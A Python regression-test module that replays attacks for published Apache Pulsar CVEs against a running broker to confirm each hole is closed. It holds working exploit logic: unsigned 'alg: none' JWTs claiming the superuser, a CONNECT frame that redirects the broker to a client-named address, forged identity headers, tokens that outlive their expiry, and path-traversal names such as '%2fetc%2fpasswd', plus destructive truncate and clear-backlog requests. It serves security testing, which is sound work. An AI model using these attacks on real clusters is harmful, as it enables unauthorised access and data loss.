# SPDX-License-Identifier: Apache-2.0
"""Published holes of Apache Pulsar, as attacks on a running broker, this one or a real Apache Pulsar.

An attack is made of raw frames and plain requests, in a namespace of its own with the grants of the matrix
(``rights_world``). It yields a line for each thing that it got and should not have got: none, where the hole is closed.
"""

from __future__ import annotations

import base64
import contextlib
import hashlib
import hmac
import json
import re
import socket
import time
from collections.abc import Callable, Iterable, Iterator, Mapping
from dataclasses import dataclass
from typing import Any, Final, NamedTuple

import jwt
import msgspec

from broker_core.server.admin.app import all_routes
from broker_core.testing.raw_client import RawClient, must_succeed
from broker_core.wire.entry import seal_entry
from broker_core.wire.proto.pulsar_api_pb2 import BaseCommand, MessageMetadata
from tests.server.credentials import connect
from tests.server.rights_world import DOMAINS, PARTED, Answer, Http, Who, grants_of

PLACES: Final = ("plain", "parted", "parted-partition-1")
BUNDLE: Final = "0x00000000_0xffffffff"
PATIENCE_S: Final = 20.0
"""How long a connection may stay behind the end of its credentials: Apache Pulsar looks once a second."""

_EXPIRY_S: Final = 2.0
_UNAUTHORIZED: Final = 4
_STORED: Final = ("plain", "parted-partition-0", "parted-partition-1", "kept")
"""Topics with a message."""

_ENTRY: Final = seal_entry(
    MessageMetadata(producer_name="p", sequence_id=0, publish_time=1).SerializeToString(), b"hello"
)


class Request(NamedTuple):
    """One request of the admin REST."""

    method: str
    path: str
    body: object = None


@dataclass(frozen=True)
class Place:
    """A running broker: ``key`` signs tokens for it, ``root`` is its superuser. ``planted``: its secrets."""

    service_url: str
    http_url: str
    key: bytes
    root: str
    planted: tuple[str, ...]

    def token(self, role: str, *, lives_s: float | None = None) -> str:
        claims: dict[str, object] = {"sub": role}
        if lives_s is not None:
            claims["exp"] = time.time() + lives_s
        return jwt.encode(claims, self.key, algorithm="HS256")

    def http(self, who: Who) -> Http:
        """A client that shows the token of a role, if it has one, and perhaps says for whom it speaks."""
        headers = {"Content-Type": "application/json"}
        if who.role:
            headers["Authorization"] = f"Bearer {self.token(who.role)}"
        if who.original:
            headers["X-Original-Principal"] = who.original
        return Http(self.http_url, headers)

    def stranger(self, timeout_s: float = 60.0) -> RawClient:
        """A client that has said nothing yet."""
        return RawClient(self.service_url, connect=False, timeout_s=timeout_s)

    def client(self, role: str) -> RawClient:
        """A client that was let in."""
        return RawClient(self.service_url, token=self.token(role), timeout_s=60)


Attack = Callable[[Place, str], Iterator[str]]
"""On a broker, in a namespace that was furnished for it."""


def answer_of(http: Http, request: Request, headers: Mapping[str, str] | None = None) -> Answer:
    """The answer, also where Apache Pulsar has hung up behind the one before, whose body it did not read."""
    try:
        return http.ask(*request, headers)
    except ConnectionError:
        http.close()
        return http.ask(*request, headers)


def let_through(
    place: Place, who: Who, requests: Iterable[Request], headers: Mapping[str, str] | None = None
) -> Iterator[str]:
    """Those of ``requests`` that are not refused."""
    http = place.http(who)
    for request in requests:
        answer = answer_of(http, request, headers)
        if answer.status < 300:
            yield f"{request.method} {request.path.removeprefix('/admin/v2/')}"
    http.close()


# -- the namespace of an attack


def furnish(place: Place, namespace: str, *, prefixed: bool) -> None:
    """Make the namespace with the grants of the matrix, its topics and subscriptions, and a message in each topic."""
    http = place.http(Who(place.root))
    for tenant, admin in (("acme", "boss"), ("other", "stranger")):
        body = {"adminRoles": [admin], "allowedClusters": ["standalone"]}
        assert http.ask("PUT", f"/admin/v2/tenants/{tenant}", body).status in (204, 409)
    made = [Request("PUT", f"namespaces/{namespace}", {"auth_policies": msgspec.to_builtins(grants_of(namespace))})]
    made.append(Request("PUT", f"persistent/{namespace}/kept"))
    for domain in DOMAINS:
        made.append(Request("PUT", f"{domain}/{namespace}/plain"))
        made.append(Request("PUT", f"{domain}/{namespace}/parted/partitions", PARTED))
    for topic in ("plain", "parted"):
        for subscription in ("open", "closed"):
            path = f"persistent/{namespace}/{topic}/subscription/{subscription}"
            made.append(Request("PUT", path, "earliest"))
    if prefixed:
        made.append(Request("POST", f"namespaces/{namespace}/subscriptionAuthMode", "Prefix"))
    for request in made:
        answer = http.ask(request.method, f"/admin/v2/{request.path}", request.body)
        assert answer.status == 204, (request, answer)
    http.close()
    with place.client(place.root) as client:
        for number, topic in enumerate(_STORED):
            _publish(client, f"persistent://{namespace}/{topic}", number)


def _publish(client: RawClient, topic: str, producer_id: int) -> None:
    # An Apache Pulsar gives topics to a broker by a look-up, before it takes a producer.
    lookup = BaseCommand(type=BaseCommand.LOOKUP, lookupTopic={"topic": topic, "request_id": 1})
    assert client.ask(lookup).type == BaseCommand.LOOKUP_RESPONSE
    must_succeed(client.open_producer(topic, producer_id))
    client.send_entry(producer_id, 0, _ENTRY)
    assert client.next_command().type == BaseCommand.SEND_RECEIPT


# -- who a client is


def tokens_without_an_algorithm(place: Place, _namespace: str) -> Iterator[str]:
    """2021-22160: a token that says that it is not signed."""
    payload = _part(json.dumps({"sub": place.root}).encode())
    for header in ({"alg": "none"}, {"alg": "None"}, {"alg": "nOnE"}, {"alg": ""}, {"typ": "JWT"}):
        signed = f"{_part(json.dumps(header).encode())}.{payload}"
        mac = _part(hmac.new(place.key, signed.encode(), hashlib.sha256).digest())
        for signature in ("", mac):
            yield from _lets_in(place, f"{signed}.{signature}")


def _lets_in(place: Place, token: str) -> Iterator[str]:
    with place.stranger() as client:
        if client.ask(connect("token", token)).HasField("connected"):
            yield "CONNECT"
    http = Http(place.http_url, {"Authorization": f"Bearer {token}"})
    if http.ask("GET", "/admin/v2/tenants").status < 300:
        yield "GET tenants"
    http.close()


def _part(content: bytes) -> str:
    return base64.urlsafe_b64encode(content).rstrip(b"=").decode()


def connections_to_anywhere(place: Place, _namespace: str) -> Iterator[str]:
    """2022-24280: the broker is told to connect to an address that the client names."""
    with socket.create_server(("127.0.0.1", 0)) as elsewhere:
        elsewhere.setblocking(False)
        host, port = elsewhere.getsockname()
        with place.stranger() as client:
            hello = connect("token", place.token("nobody"), proxy_to_broker_url=f"pulsar://{host}:{port}")
            client.ask(hello)
        try:
            elsewhere.accept()[0].close()
            yield "CONNECT"
        except BlockingIOError:
            pass


def life_after_the_token(place: Place, _namespace: str) -> Iterator[str]:
    """2023-31007: a connection that outlives its token, by fields of CONNECT that are for proxies."""
    original = {"original_principal": "nobody"}
    several: tuple[dict[str, Any], ...] = ({}, original, {**original, "original_auth_data": "x"})
    token = place.token("nobody", lives_s=_EXPIRY_S)
    with contextlib.ExitStack() as clients:
        let_in = []
        for fields in several:
            client = clients.enter_context(place.stranger(PATIENCE_S))
            if client.ask(connect("token", token, **fields)).HasField("connected"):
                let_in.append((fields, client))
        for fields, client in let_in:
            if not client.ended_by_broker():
                yield f"CONNECT with {sorted(fields)}"


# -- what is open to all


_OPEN: Final = ("/admin/v2/brokers/ready", "/admin/v2/brokers/version")
_OTHER_PAGES: Final = ("/metrics/", "/proxy-stats/connections", "/proxy-stats/topics", "/admin/v2/proxy-stats/topics")


def pages_without_credentials(place: Place, namespace: str) -> Iterator[str]:
    """2022-34321: a page of statistics that asked for no credentials."""
    paths = {path for path in _filled_paths(namespace) if path not in _OPEN}
    yield from let_through(place, Who(""), (Request("GET", path) for path in (*sorted(paths), *_OTHER_PAGES)))


def upgrades_without_credentials(place: Place, _namespace: str) -> Iterator[str]:
    """2023-37544: a WebSocket for everybody, which keeps the server busy."""
    headers = {
        "Connection": "Upgrade",
        "Upgrade": "websocket",
        "Sec-WebSocket-Version": "13",
        "Sec-WebSocket-Key": base64.b64encode(bytes(16)).decode(),
    }
    for path in ("/ws/pingpong", "/ws/v2/pingpong", "/ws/v2/reader/persistent/public/default/t", "/metrics"):
        yield from let_through(place, Who(""), [Request("GET", path)], headers)


def secrets_in_answers(place: Place, namespace: str) -> Iterator[str]:
    """2023-37579: secrets of the configuration in answers to others than the superuser."""
    for role in ("nobody", "boss"):
        http = place.http(Who(role))
        for path in _filled_paths(namespace):
            shown = json.dumps(answer_of(http, Request("GET", path)).content, default=repr)
            if any(secret in shown for secret in place.planted):
                yield f"GET {path.removeprefix('/admin/v2/')}"
        http.close()


def _filled_paths(namespace: str) -> list[str]:
    """A path of each route."""
    names = {"tenant": "acme", "namespace": namespace.partition("/")[2], "topic": "plain", "subscription": "open"}
    return [_fill(route.path, names) for route in all_routes()]


def _fill(template: str, names: Mapping[str, str]) -> str:
    return re.sub(r"\{(\w+)(:path)?\}", lambda part: names.get(part[1], "1"), template)


# -- requests behind somebody else's name


_FORGED: Final[tuple[Mapping[str, str], ...]] = (
    {"X-Original-Principal": "boss"},
    {"X-Forwarded-For": "127.0.0.1", "X-Forwarded-User": "boss", "X-Forwarded-Host": "localhost"},
    {"X-Pulsar-Role": "boss", "Role": "boss", "X-Remote-User": "boss", "Remote-User": "boss"},
    {"X-Original-URL": "/admin/v2/brokers/ready", "X-Rewrite-URL": "/admin/v2/brokers/ready"},
    {"X-HTTP-Method-Override": "GET"},
)


def headers_that_give_rights(place: Place, namespace: str) -> Iterator[str]:
    """2023-30428: a header with which everybody published as the broker itself."""
    topic = f"/admin/v2/persistent/{namespace}/plain"
    requests = (
        Request("GET", "/admin/v2/tenants"),
        Request("PUT", f"/admin/v2/persistent/{namespace}/forged"),
        Request("DELETE", topic),
        Request("POST", f"/admin/v2/namespaces/{namespace}/permissions/nobody", ["produce"]),
        Request("GET", f"{topic}/stats"),
        Request("POST", f"{topic}/subscription/open/skip_all"),
    )
    for headers in (*_FORGED, {"X-Original-Principal": place.root}):
        yield from let_through(place, Who("nobody"), requests, headers)
    yield from _published_by_http(place, namespace)


def _published_by_http(place: Place, namespace: str) -> Iterator[str]:
    """By Pulsar's REST producer, which this broker has not."""
    before = _entries_added(place, namespace)
    http = place.http(Who("nobody"))
    body = {"producerName": "forged", "messages": [{"payload": "forged"}]}
    for headers in _FORGED:
        answer_of(http, Request("POST", f"/topics/persistent/{namespace}/plain", body), headers)
    http.close()
    if _entries_added(place, namespace) != before:
        yield "POST /topics"


def _entries_added(place: Place, namespace: str) -> int:
    http = place.http(Who(place.root))
    stats = http.ask("GET", f"/admin/v2/persistent/{namespace}/plain/internalStats").content
    http.close()
    return int(stats["entriesAddedCounter"])


def messages_to_the_brokers_topics(place: Place, namespace: str) -> Iterator[str]:
    """2023-30428: what was published so were policies of other tenants' topics."""
    for role in ("prod-ns", "boss"):
        for topic in (
            f"persistent://{namespace}/__change_events",
            f"persistent://{namespace}/__change_events-partition-0",
        ):
            with place.client(role) as client:
                lookup = BaseCommand(type=BaseCommand.LOOKUP, lookupTopic={"topic": topic, "request_id": 1})
                client.ask(lookup)
                if client.open_producer(topic, 1).type == BaseCommand.PRODUCER_SUCCESS:
                    yield f"PRODUCER {topic}"


def rights_of_the_proxy(place: Place, namespace: str) -> Iterator[str]:
    """2023-30429: the right of the proxy was checked instead of its client's."""
    topic = f"/admin/v2/persistent/{namespace}/plain"
    requests = (
        Request("DELETE", topic),
        Request("GET", "/admin/v2/tenants"),
        Request("DELETE", f"/admin/v2/persistent/{namespace}/parted/partitions"),
        Request("POST", f"/admin/v2/namespaces/{namespace}/permissions/nobody", ["produce"]),
    )
    yield from let_through(place, Who("proxy-root", "cons-ns"), requests)
    yield from let_through(place, Who("proxy", "boss"), requests)


# -- a second way to the same thing


def entries_of_other_topics(place: Place, namespace: str) -> Iterator[str]:
    """2021-41571: a message by its ids, through a topic that one may read."""
    base = f"/admin/v2/persistent/{namespace}"
    http = place.http(Who(place.root))
    stats = http.ask("GET", f"{base}/kept/internalStats").content
    http.close()
    path = f"{base}/plain/ledger/{stats['ledgers'][0]['ledgerId']}/entry/0"
    yield from let_through(place, Who("cons-topic"), [Request("GET", path)])


def policies_of_topics(place: Place, namespace: str) -> Iterator[str]:
    """2024-28098: policies of a topic by the right to use it."""
    routes = [route for route in all_routes() if "TopicPolicyOperation" in route.need.refusal]
    assert len(routes) > 80
    requests = []
    for topic in ("plain", "parted"):
        names = {"tenant": "acme", "namespace": namespace.partition("/")[2], "topic": topic}
        requests += [
            Request(method, _fill(route.path, names), 1)
            for route in routes
            for method in sorted((route.methods or set()) - {"HEAD"})
        ]
    for role in ("prod-ns", "cons-ns", "prod-topic", "cons-topic"):
        yield from let_through(place, Who(role), requests)


def partitioned_names(place: Place, namespace: str) -> Iterator[str]:
    """2024-29834: requests whose right was checked for partitions, and not for the topic that has them."""
    of_namespace = f"/admin/v2/namespaces/{namespace}"
    requests = [
        Request("PUT", f"{of_namespace}/properties", {"a": "b"}),
        Request("DELETE", f"{of_namespace}/properties"),
    ]
    for domain in DOMAINS:
        for topic in PLACES:
            path = f"/admin/v2/{domain}/{namespace}/{topic}"
            requests += [Request("PUT", f"{path}/unload"), Request("PUT", f"{path}/subscription/new", "earliest")]
            requests += [Request("PUT", f"{path}/compaction")] * (domain == "persistent")
    yield from let_through(place, Who("nobody"), requests)


def schemas(place: Place, namespace: str) -> Iterator[str]:
    """2026-105926: schemas of all topics, by raw frames: ordinary clients look the topic up first, and end there."""
    with place.client("nobody") as client:
        for topic in (f"{domain}://{namespace}/{each}" for domain in DOMAINS for each in PLACES):
            asked = BaseCommand(type=BaseCommand.GET_SCHEMA, getSchema={"topic": topic, "request_id": 1})
            answer = client.ask(asked).getSchemaResponse
            if (answer.error_code, answer.error_message) != (_UNAUTHORIZED, "Client is not authorized to get schema"):
                yield "GET_SCHEMA"
            schema = {"name": "", "schema_data": b"{}", "type": 2}
            wanted = {"topic": topic, "request_id": 2, "schema": schema}
            made = BaseCommand(type=BaseCommand.GET_OR_CREATE_SCHEMA, getOrCreateSchema=wanted)
            response = client.ask(made).getOrCreateSchemaResponse
            if response.error_code != _UNAUTHORIZED or response.HasField("schema_version"):
                yield "GET_OR_CREATE_SCHEMA"


def transactions(place: Place, namespace: str) -> Iterator[str]:
    """2026-105931: what is known of transactions, for everybody."""
    topic = f"{namespace}/plain"
    paths = (
        *("coordinators", "coordinatorStats", "coordinatorInternalStats/0", "slowTransactions/1"),
        *("transactionMetadata/0/1", f"transactionBufferStats/{topic}", f"transactionInBufferStats/{topic}/0/1"),
        *(f"pendingAckStats/{topic}/open", f"transactionInPendingAckStats/{topic}/open/0/1"),
    )
    yield from let_through(place, Who("nobody"), (Request("GET", f"/admin/v3/transactions/{path}") for path in paths))


def filters_of_unstored_topics(place: Place, namespace: str) -> Iterator[str]:
    """2026-105932: the half of the paths that was forgotten."""
    path = f"/admin/v2/non-persistent/{namespace}/plain/entryFilters"
    requests = [Request("GET", path), Request("POST", path, {"entryFilterNames": "x"}), Request("DELETE", path)]
    for role in ("nobody", "prod-ns", "cons-ns"):
        yield from let_through(place, Who(role), requests)


def truncations(place: Place, namespace: str) -> Iterator[str]:
    """2026-105934: the data of a topic that one may consume from, gone with the broker's own right."""
    for role in ("nobody", "stranger", "prod-ns", "cons-topic", "cons-ns"):
        paths = (f"/admin/v2/persistent/{namespace}/{topic}/truncate" for topic in PLACES)
        yield from let_through(place, Who(role), (Request("DELETE", path) for path in paths))


def subscriptions_of_others(place: Place, namespace: str) -> Iterator[str]:
    """2026-105938: subscriptions of other roles, by requests for all of a topic or of a namespace."""
    of_topics = f"/admin/v2/persistent/{namespace}"
    requests = [Request("POST", f"{of_topics}/{topic}/all_subscription/expireMessages/1") for topic in PLACES]
    of_namespace = f"/admin/v2/namespaces/{namespace}"
    requests += [
        Request("POST", f"{of_namespace}{bundle}/{what}")
        for bundle in ("", f"/{BUNDLE}")
        for what in ("clearBacklog/closed", "clearBacklog", "unsubscribe/closed")
    ]
    yield from let_through(place, Who("cons-ns"), requests)


def subscriptions_without_the_prefix(place: Place, namespace: str) -> Iterator[str]:
    """2026-105938: the same where the name of a subscription must begin with the role."""
    of_namespace = f"/admin/v2/namespaces/{namespace}"
    requests = [
        Request("POST", f"{of_namespace}{bundle}/{what}")
        for bundle in ("", f"/{BUNDLE}")
        for what in ("clearBacklog", "clearBacklog/open", "unsubscribe/open")
    ]
    topic = f"/admin/v2/persistent/{namespace}/plain"
    whats: tuple[str, ...] = (
        "all_subscription/expireMessages/1",
        "subscription/open/skip_all",
        "subscription/open/skip/1",
    )
    whats += ("subscription/open/skip/1", "subscription/open/expireMessages/1", "subscription/open/resetcursor/0")
    requests += [Request("POST", f"{topic}/{what}") for what in whats]
    requests += [Request("POST", f"{topic}/subscription/open/analyzeBacklog")]
    requests += [Request("GET", f"{topic}/subscription/open/position/1")]
    requests += [Request("DELETE", f"{topic}/subscription/open"), Request("PUT", f"{topic}/subscription/new")]
    yield from let_through(place, Who("cons-ns"), requests)


def names_that_lead_out(place: Place, _namespace: str) -> Iterator[str]:
    """2026-105945: names with parts of paths in them."""
    names = ("..", "%2e%2e", "..%2f..%2fother", "%2fetc%2fpasswd", "a%00b", "a%5c..%5cb", "%252e%252e%252f", "x" * 3000)
    templates = ("namespaces/{}/ns", "namespaces/acme/{}", "persistent/{}/ns/plain/stats", "tenants/{}")
    requests = (Request("GET", f"/admin/v2/{each.format(name)}") for name in names for each in templates)
    yield from let_through(place, Who("boss"), requests)


class Hole(NamedTuple):
    """A published hole, by the number of its CVE, and one way into it. ``prefixed``: the names of subscriptions must
    begin with the role."""

    number: str
    attack: Attack
    prefixed: bool = False

    def __str__(self) -> str:
        return f"{self.number} {self.attack.__name__}"


HOLES: Final = (
    Hole("2021-22160", tokens_without_an_algorithm),
    Hole("2021-41571", entries_of_other_topics),
    Hole("2022-24280", connections_to_anywhere),
    Hole("2022-34321", pages_without_credentials),
    Hole("2023-30428", headers_that_give_rights),
    Hole("2023-30428", messages_to_the_brokers_topics),
    Hole("2023-30429", rights_of_the_proxy),
    Hole("2023-31007", life_after_the_token),
    Hole("2023-37544", upgrades_without_credentials),
    Hole("2023-37579", secrets_in_answers),
    Hole("2024-28098", policies_of_topics),
    Hole("2024-29834", partitioned_names),
    Hole("2026-105926", schemas),
    Hole("2026-105931", transactions),
    Hole("2026-105932", filters_of_unstored_topics),
    Hole("2026-105934", truncations),
    Hole("2026-105938", subscriptions_of_others),
    Hole("2026-105938", subscriptions_without_the_prefix, prefixed=True),
    Hole("2026-105945", names_that_lead_out),
)


def prepare(hole: Hole, place: Place) -> None:
    """Make the namespace of the attack."""
    furnish(place, namespace_of(hole), prefixed=hole.prefixed)


def got_by(hole: Hole, place: Place) -> set[str]:
    """Commands and requests by which the attack got anything; its namespace is ``{}``."""
    namespace = namespace_of(hole)
    return {line.replace(namespace, "{}") for line in hole.attack(place, namespace)}


def namespace_of(hole: Hole) -> str:
    """The namespace of one attack."""
    return f"acme/{hole.attack.__name__}"
